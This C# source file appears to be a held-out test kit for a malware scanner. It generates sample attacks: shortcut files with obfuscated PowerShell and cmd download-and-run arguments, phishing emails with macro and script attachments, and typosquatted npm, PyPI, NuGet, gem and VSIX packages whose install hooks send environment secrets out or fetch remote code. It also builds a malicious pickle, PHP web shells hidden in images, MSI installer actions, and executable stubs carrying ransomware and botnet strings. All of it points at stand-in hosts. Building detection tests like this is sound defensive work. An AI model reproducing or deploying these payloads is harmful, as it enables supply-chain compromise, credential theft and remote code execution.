using System.Buffers.Binary;
using System.Formats.Tar;
using System.Text;

namespace ScanHost.TestKit.HeldOut;

/// <summary>Shortcuts laid out in other ways: only an item list, only a relative path, narrow letters, a wide LinkInfo.</summary>
public sealed class OddShortcuts : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Document.pdf.lnk", Link(items: ["C:\\", "Windows", "System32", "WindowsPowerShell", "v1.0", "powershell.exe"], arguments: "-NoP -NonI -W Hidden -C \"$a='http://192.0.2.190/a';IEX(New-Object Net.WebClient).DownloadString($a)\"", icon: @"%SystemRoot%\System32\shell32.dll")),
        ("a.lnk", Link(relative: @"..\..\..\..\Windows\System32\cmd.exe", arguments: "/c \"cur^l http://192.0.2.191/b.txt -o %TEMP%\\b.vbs && wscript %TEMP%\\b.vbs\"", icon: @"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe")),
        ("b.lnk", Link(relative: @".\Windows\System32\forfiles.exe", arguments: "/p C:\\Windows\\System32 /m notepad.exe /c \"powershell . mshta http://192.0.2.192/c.mp4\"", isWide: false)),
        ("c.lnk", Link(relative: @"C:\Windows\System32\conhost.exe", arguments: "--headless powershell $w=iwr -uri http://192.0.2.193/d;&(gcm i*x) $w.Content")),
        ("d.lnk", Link(relative: @"C:\Windows\System32\OpenSSH\ssh.exe", arguments: "-o ProxyCommand=\"powershell powershell -Command ('msh]]]ta http://192.0.2.194/e' -replace ']]]')\" .")),
        ("e.lnk", Link(relative: @"C:\Windows\System32\rundll32.exe", arguments: "documents.log,DllRegisterServer", icon: @"C:\Windows\explorer.exe")),
        ("f.lnk", Link(relative: @"C:\Windows\explorer.exe", arguments: "\\\\192.0.2.195@80\\webdav\\update.js")),
        ("g.lnk", Link(relative: @"C:\Windows\System32\cmd.exe", arguments: "/v:on /c set x=c^u^r^l& set y=http://192.0.2.196/g& !x! !y! | cmd" + new string('\n', 280), icon: "invoice.docx")),
    ];

    internal static byte[] Link(string[]? items = null, string? relative = null, string arguments = "", string? icon = null, bool isWide = true)
    {
        var flags = (items is null ? 0u : 1) | (relative is null ? 0u : 8) | 0x20 | (icon is null ? 0u : 0x40) | (isWide ? 0x80u : 0);
        var body = new MemoryStream();
        if (items is not null)
        {
            var list = new MemoryStream();
            // [MS-SHLLINK] 2.2: the desktop's root, a drive, then folders and a file with short names.
            list.Write([0x14, 0, 0x1F, 0x50, 0xE0, 0x4F, 0xD0, 0x20, 0xEA, 0x3A, 0x69, 0x10, 0xA2, 0xD8, 8, 0, 0x2B, 0x30, 0x30, 0x9D]);
            for (var at = 0; at < items.Length; at++)
            {
                var name = Encoding.ASCII.GetBytes(items[at] + "\0");
                byte[] item = at == 0 ? [0x2F, .. name, .. new byte[19]] : [(byte)(at == items.Length - 1 ? 0x32 : 0x31), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, .. name, .. name.Length % 2 == 0 ? Array.Empty<byte>() : [0]];
                list.Write([(byte)(item.Length + 2), 0, .. item]);
            }
            list.Write([0, 0]);
            body.Write([(byte)list.Length, (byte)(list.Length >> 8), .. list.ToArray()]);
        }
        foreach (var text in new[] { relative, arguments, icon })
            if (text is not null)
                body.Write([(byte)text.Length, (byte)(text.Length >> 8), .. isWide ? Encoding.Unicode.GetBytes(text) : Encoding.Latin1.GetBytes(text)]);
        var header = new byte[0x4C];
        header[0] = 0x4C;
        new Guid("00021401-0000-0000-C000-000000000046").TryWriteBytes(header.AsSpan(4));
        BinaryPrimitives.WriteUInt32LittleEndian(header.AsSpan(0x14), flags);
        header[0x3C] = 7;
        return [.. header, .. body.ToArray(), 0, 0, 0, 0];
    }
}

/// <summary>Disk images with a shortcut and what it starts.</summary>
public sealed class DiskImages : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Scan.iso", Image(("Documents.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\rundll32.exe", arguments: "data.dat,Start", icon: @"C:\Windows\System32\imageres.dll")), ("data.dat", new PeBuilder().Importing("KERNEL32.dll", "LoadLibraryA", "GetProcAddress").Build()))),
        ("Contract.img", Image(("Contract.js", Utf8("var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c iex(irm http://192.0.2.200/i)',0);")))),
        ("Order.iso", Image(("Order.exe", new PeBuilder().Importing("KERNEL32.dll", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread").Build()))),
        ("CV.iso", Image(("CV.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\cmd.exe", arguments: "/c start /b run.bat & start decoy.pdf")), ("run.bat", Utf8("@echo off\r\npowershell -w hidden -ep bypass -f a.ps1\r\n")), ("decoy.pdf", PdfBuilder.Document()))),
    ];

    private static byte[] Image(params (string Name, byte[] Content)[] files)
    {
        using var folder = new TemporaryFolder();
        foreach (var (name, content) in files)
            folder.Write(Path.Combine("in", name), content);
        ForeignTool.Run(folder.Path, "genisoimage", "-quiet", "-J", "-R", "-o", "out.iso", "in");
        return File.ReadAllBytes(Path.Combine(folder.Path, "out.iso"));
    }
}

/// <summary>Mail with something attached.</summary>
public sealed class Mails : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var page = Utf8("<html><body><form action='https://collect.invalid/x' method=post><input type=password name=p></form></body></html>");
        return
        [
            ("a.eml", Mail("\"Accounts\" <acc@shop.invalid>", "Dear customer,\n\nyour statement is in the attached archive.\nArchive pass: 7731\n", "Statement.zip", Locked("7731", ("Statement.js", Utf8("new ActiveXObject('WScript.Shell').Run('powershell -w hidden -c iex(irm http://192.0.2.210/m)');"))))),
            ("b.eml", Mail("\"Microsoft Account Team\" <noreply@mailer-77.invalid>", "Your mailbox is full. Open the attachment to keep your messages.\n", "Mailbox_Form.shtml", page)),
            ("c.eml", Mail("FedEx Delivery <track@parcel.invalid>", "We could not deliver your parcel. See label.\n", "Label.iso", DiskImage())),
            ("d.eml", Mail("Ann <ann@partner.invalid>", "see attached, pwd = Q3report!\n", "Q3.7z", Locked("Q3report!", ("Q3.xlsm", OoxmlBuilder.Excel().WithMacros(new VbaProjectBuilder().Module("ThisWorkbook", "Sub Workbook_Open()\nShell \"cmd /c powershell -w hidden -c iex(irm http://192.0.2.211/q)\"\nEnd Sub\n").Build()).Build())))),
            ("e.msg", new MsgBuilder().Text(0x0037, "Payment").Text(0x0042, "Payroll").Text(0x5D02, "pay@host.invalid").Text(0x1000, "Please review").Attachment("Payroll.html", Utf8("<script>location.href='data:text/html;base64,'+btoa('x');document.write(atob('" + Base64("<form action=https://c.invalid/p><input type=password>") + "'))</script>")).Build()),
            ("f.eml", Utf8("Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMessage-Id: <1@one.invalid>\nTo: you@two.invalid\nFrom: \"PayPal Service\" <service@pp-alerts.invalid>\nReply-To: x@other.invalid\nSubject: Your account is limited\nAuthentication-Results: mx.two.invalid; spf=fail; dkim=none; dmarc=fail header.from=pp-alerts.invalid\nMIME-Version: 1.0\nContent-Type: text/html\n\n<html><body><p>Confirm: <a href=\"http://192.0.2.212/login\">https://www.paypal.com/signin</a></p></body></html>\n")),
            ("g.eml", Mail("HR <hr@two.invalid>", "Sign by Friday.\n", "Agreement.pdf.lnk.zip", InertFiles.Zip(("Agreement.pdf.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\mshta.exe", arguments: "http://192.0.2.213/a.hta"))))),
        ];
    }

    private static byte[] DiskImage() => new DiskImages().Variants().First().Content;

    private static byte[] Locked(string password, params (string Name, byte[] Content)[] files)
    {
        using var folder = new TemporaryFolder();
        foreach (var (name, content) in files)
            folder.Write(name, content);
        ForeignTool.Run(folder.Path, "7z", ["a", "-tzip", "-p" + password, "out.zip", .. files.Select(file => file.Name)]);
        return File.ReadAllBytes(Path.Combine(folder.Path, "out.zip"));
    }

    private static byte[] Mail(string from, string body, string name, byte[] content) => Utf8(
        $"Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMessage-Id: <1@one.invalid>\nTo: you@two.invalid\nFrom: {from}\nSubject: Notice\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"=_b1\"\n\n--=_b1\nContent-Type: text/plain; charset=utf-8\n\n{body}\n--=_b1\nContent-Type: application/octet-stream; name=\"{name}\"\nContent-Disposition: attachment; filename=\"{name}\"\nContent-Transfer-Encoding: base64\n\n{Convert.ToBase64String(content, Base64FormattingOptions.InsertLineBreaks)}\n--=_b1--\n");
}

/// <summary>Packages that do harm when they are installed.</summary>
public sealed class HostilePackages : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("left-padd-1.0.0.tgz", Tgz(("package/package.json", "{\"name\":\"left-padd\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node setup.js\"}}"), ("package/setup.js", "const os=require('os'),dns=require('dns'),https=require('https');const d=Buffer.from(JSON.stringify({h:os.hostname(),u:os.userInfo().username,e:process.env})).toString('hex');https.request({hostname:'x.oast.invalid',method:'POST'}).end(d);require('child_process').exec('curl -s http://192.0.2.220/a|sh');"))),
        ("acme-internal-9999.0.0.tgz", Tgz(("package/package.json", "{\"name\":\"@acme/internal\",\"version\":\"9999.0.0\",\"scripts\":{\"preinstall\":\"curl -X POST -d \\\"$(env|base64)\\\" https://cb.invalid/x\"}}"), ("package/index.js", "module.exports={}"))),
        ("reqeusts-2.0.tar.gz", Tgz(("reqeusts-2.0/setup.py", "import base64\nfrom setuptools import setup\nexec(base64.b64decode('" + Base64("import urllib.request as u;exec(u.urlopen('http://192.0.2.221/a').read())") + "'))\nsetup(name='reqeusts',version='2.0')\n"), ("reqeusts-2.0/PKG-INFO", "Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.0\n"))),
        ("colourama-1.0-py3-none-any.whl", InertFiles.Zip(("colourama/__init__.py", Utf8("import subprocess,sys\nsubprocess.Popen([sys.executable,'-c',\"import urllib.request;exec(urllib.request.urlopen('http://192.0.2.222/a').read())\"])\n")), ("colourama-1.0.dist-info/METADATA", Utf8("Metadata-Version: 2.1\nName: colourama\nVersion: 1.0\n")), ("colourama-1.0.dist-info/WHEEL", Utf8("Wheel-Version: 1.0\n")), ("colourama-1.0.dist-info/RECORD", []))),
        ("Newtonsoft.Jsom.1.0.0.nupkg", InertFiles.Zip(("Newtonsoft.Jsom.nuspec", Utf8("<?xml version=\"1.0\"?><package xmlns=\"http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd\"><metadata><id>Newtonsoft.Jsom</id><version>1.0.0</version><authors>x</authors><description>x</description></metadata></package>")), ("tools/init.ps1", Utf8("param($installPath)\nStart-Process powershell -WindowStyle Hidden -ArgumentList '-nop -c iex(irm http://192.0.2.223/n)'\n")), ("build/Newtonsoft.Jsom.targets", Utf8("<Project><Target Name=\"X\" BeforeTargets=\"Build\"><Exec Command=\"powershell -nop -w hidden -c iex(irm http://192.0.2.223/t)\"/></Target></Project>")))),
        ("evil-0.1.gem", Gem()),
        ("theme.vsix", InertFiles.Zip(("extension/package.json", Utf8("{\"name\":\"prettier-vscod\",\"version\":\"1.0.0\",\"publisher\":\"x\",\"engines\":{\"vscode\":\"^1.0.0\"},\"activationEvents\":[\"*\"],\"main\":\"./e.js\"}")), ("extension/e.js", Utf8("const c=require('child_process');exports.activate=()=>{c.exec('powershell -w hidden -nop -c \"iex (irm http://192.0.2.224/v)\"')}")), ("[Content_Types].xml", Utf8("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>")), ("extension.vsixmanifest", Utf8("<PackageManifest Version=\"2.0.0\" xmlns=\"http://schemas.microsoft.com/developer/vsx-schema/2011\"><Metadata><Identity Id=\"a\" Version=\"1\" Publisher=\"x\"/></Metadata></PackageManifest>")))),
        ("model.pkl", [0x80, 4, .. "cposix\nsystem\n(Vcurl http://192.0.2.225/a|sh\ntR."u8]),
    ];

    private static byte[] Tgz(params (string Name, string Text)[] members) => InertFiles.Gzip(Tar([.. members.Select(member => (member.Name, Utf8(member.Text)))]));

    private static byte[] Gem() => Tar([
        ("metadata.gz", InertFiles.Gzip(Utf8("--- !ruby/object:Gem::Specification\nname: evil\nversion: !ruby/object:Gem::Version\n  version: '0.1'\nextensions:\n- ext/extconf.rb\n"))),
        ("data.tar.gz", InertFiles.Gzip(Tar([("ext/extconf.rb", Utf8("require 'open-uri'\nsystem(\"curl -s http://192.0.2.226/g | bash\")\neval(URI.open('http://192.0.2.226/h').read)\nFile.write('Makefile', \"all:\\ninstall:\\n\")\n"))])))]);

    private static byte[] Tar((string Name, byte[] Content)[] members)
    {
        using var file = new MemoryStream();
        using (var writer = new TarWriter(file, TarEntryFormat.Ustar, leaveOpen: true))
            foreach (var (name, content) in members)
                writer.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(content) });
        return file.ToArray();
    }
}

/// <summary>Programs that give themselves away, and programs in disguise.</summary>
public sealed class Programs : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var inject = new PeBuilder().Importing("KERNEL32.dll", "OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread");
        var noise = new byte[60000];
        new Random(5).NextBytes(noise);
        return
        [
            ("Invoice.pdf.exe", inject.Build()),
            ("photo.jpg", new PeBuilder().Importing("KERNEL32.dll", "LoadLibraryA", "GetProcAddress").Build()),
            ("packed.exe", new PeBuilder().WithCode(noise, 0xE0000020, "UPX1").Importing("KERNEL32.dll", "LoadLibraryA", "GetProcAddress", "VirtualProtect").Build()),
            ("load.exe", new PeBuilder().Importing("urlmon.dll", "URLDownloadToFileA").Importing("SHELL32.dll", "ShellExecuteA").WithData("http://192.0.2.230/stage2.exe").Build()),
            ("lock.exe", new PeBuilder().Importing("ADVAPI32.dll", "CryptEncrypt").WithData("cmd.exe /c vssadmin.exe delete shadows /all /quiet\0YOUR FILES ARE ENCRYPTED\0bcdedit /set {default} recoveryenabled no").Build()),
            ("RFQ.zip", InertFiles.Zip(("RFQ_2024.pdf.scr", inject.Build()))),
            ("bundle.bin", Encoding.ASCII.GetBytes("-----BEGIN CERTIFICATE-----\r\n" + Convert.ToBase64String(InertFiles.Pe(4096), Base64FormattingOptions.InsertLineBreaks) + "\r\n-----END CERTIFICATE-----\r\n")),
            ("ld.js", Utf8("var pe=\"" + Convert.ToHexString(InertFiles.Pe(2048)) + "\";var f=new ActiveXObject('Scripting.FileSystemObject');new ActiveXObject('WScript.Shell').Run('cmd /c start x.exe');")),
            ("miner.elf", Elf("stratum+tcp://pool.invalid:4444\0xmrig\0donate-level\0/etc/ld.so.preload\0", 7)),
            ("bot.elf", Elf("/bin/busybox\0/dev/watchdog\0/dev/misc/watchdog\0telnet\0admin\0xc3511\0vizxv\0juantech\0GET /bins/mips\0", 5)),
        ];
    }

    // One loaded segment, no section headers.
    private static byte[] Elf(string strings, byte flags)
    {
        var file = new byte[0x2000];
        new byte[] { 0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1 }.CopyTo(file, 0);
        file[16] = 2;
        file[18] = 0x3E;
        file[20] = 1;
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(24), 0x400078);
        file[32] = 64;
        file[52] = 64;
        file[54] = 56;
        file[56] = 1;
        file[64] = 1;
        file[68] = flags;
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(80), 0x400000);
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(88), 0x400000);
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(96), 0x2000);
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(104), 0x2000);
        file[0x78] = 0xC3;
        Encoding.ASCII.GetBytes(strings).CopyTo(file, 0x200);
        return file;
    }
}

/// <summary>Pictures with more than a picture in them.</summary>
public sealed class LoadedPictures : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("avatar.gif", [.. "GIF89a\u0001\0\u0001\0\0\0\0"u8, .. "<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>"u8, 0x3B]),
        ("photo.jpg", Jpeg("<?php @eval($_POST['k']); ?>"u8.ToArray(), [])),
        ("scan.jpg", Jpeg([], [.. InertFiles.Pe()])),
        ("logo.png", InertFiles.Png(tail: InertFiles.Zip(("run.ps1", Utf8("iex(irm http://192.0.2.240/x)"))))),
    ];

    private static byte[] Jpeg(byte[] comment, byte[] tail)
    {
        byte[] segment = comment.Length == 0 ? [] : [0xFF, 0xFE, (byte)((comment.Length + 2) >> 8), (byte)(comment.Length + 2), .. comment];
        return [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0, .. segment, 0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 0x3F, 0, 0x12, 0x34, 0xFF, 0xD9, .. tail];
    }
}

/// <summary>Installers that run commands.</summary>
public sealed class Installers : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("setup.msi", Msi("Go\t3170\tTARGETDIR\tpowershell.exe -w hidden -nop -c iex(irm http://192.0.2.250/m)")),
        ("update.msi", Msi("Go\t38\t\tCreateObject(\"WScript.Shell\").Run \"cmd /c curl http://192.0.2.251/a.exe -o %temp%\\a.exe & %temp%\\a.exe\",0")),
        ("reader.msi", Msi("Go\t37\t\tvar s=new ActiveXObject('WScript.Shell');s.Run('mshta http://192.0.2.252/a.hta');")),
    ];

    private static byte[] Msi(string action)
    {
        using var folder = new TemporaryFolder();
        folder.Write("inner.bin", [1, 2, 3, 4]);
        return MsiBuilder.WithWixl(folder.Path, action);
    }
}
